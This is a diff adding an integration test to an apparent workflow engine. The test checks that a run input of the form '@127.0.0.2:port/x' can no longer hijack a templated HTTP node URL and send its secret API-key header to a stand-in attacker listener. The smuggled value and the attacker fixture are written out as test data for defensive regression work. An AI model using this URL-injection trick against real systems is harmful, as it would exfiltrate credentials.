@@ -264,3 +264,87 @@ async def test_a_failed_call_and_a_missing_secret_store_no_value(
     rows = await stored_rows(stack, started.run_id)
     assert leaks(rows) == []
     assert leaks(workers.log) == []
+
+
+@dataclass
+class Listener:
+    """A local HTTP server that records every request it gets."""
+
+    server: TestServer
+    got: list[dict[str, Any]] = field(default_factory=list)
+
+
+async def listen(host: str) -> Listener:
+    async def record(request: web.Request) -> web.Response:
+        listener.got.append({"path": request.path, "api_key": request.headers.get("X-Api-Key")})
+        return web.json_response({"ok": True})
+
+    app = web.Application()
+    app.router.add_route("*", "/{tail:.*}", record)
+    srv = TestServer(app, host=host, port=0)
+    await srv.start_server()
+    listener = Listener(srv)
+    return listener
+
+
+@pytest.fixture
+async def api_host() -> AsyncIterator[Listener]:
+    """The host the definition names."""
+    listener = await listen("127.0.0.1")
+    yield listener
+    await listener.server.close()
+
+
+@pytest.fixture
+async def attacker() -> AsyncIterator[Listener]:
+    """127.0.0.2, standing for the host an operator's run input points the call at."""
+    listener = await listen("127.0.0.2")
+    yield listener
+    await listener.server.close()
+
+
+async def test_a_run_input_cannot_send_a_secret_to_another_host(
+    stack: Stack, api_host: Listener, attacker: Listener, workers: WorkersProcess
+) -> None:
+    """The finding: ``url: "http://host{{input.path}}"`` with a secret header, started with
+    ``{"path": "@127.0.0.2:port/x"}``, sent the secret to 127.0.0.2. Validation now refuses
+    such a url (tests/integration/api/test_definitions.py); a definition stored before that
+    still runs, and the workers hold each request that carries a secret to its origin."""
+    definition = {
+        "id": "hijackable",
+        "nodes": [
+            {
+                "id": "call",
+                "type": "HTTP",
+                "spec": {
+                    "url": f"http://127.0.0.1:{api_host.server.port}{{{{input.path}}}}",
+                    "headers": {"X-Api-Key": "{{ secret.API_TOKEN }}"},
+                },
+                "retry": {"max_attempts": 1},
+            }
+        ],
+    }
+    async with repo.transaction(stack.pool) as conn:  # stored before the rule: no validation
+        await repo.create_definition(
+            conn, "hijackable", name="hijackable", spec=definition, deploy=True
+        )
+
+    hijacked = await stack.engine.start(
+        "hijackable", input={"path": f"@127.0.0.2:{attacker.server.port}/x"}
+    )
+    run = await stack.wait_run(hijacked.run_id)
+    assert run.status is RunStatus.FAILED
+    call = (await stack.tasks_of(hijacked.run_id))["call"]
+    assert call.error_code == "invalid_spec"
+    assert call.error is not None
+    assert f"goes to http://127.0.0.2:{attacker.server.port}" in call.error
+    assert "nothing was sent" in call.error
+    assert attacker.got == [] and api_host.got == []
+
+    fine = await stack.engine.start("hijackable", input={"path": "/orders/7"})
+    run = await stack.wait_run(fine.run_id)
+    assert run.status is RunStatus.SUCCEEDED, run.error
+    assert api_host.got == [{"path": "/orders/7", "api_key": API_TOKEN}]
+    assert attacker.got == []
+    assert leaks(await stored_rows(stack, hijacked.run_id)) == []
+    assert leaks(workers.log) == []
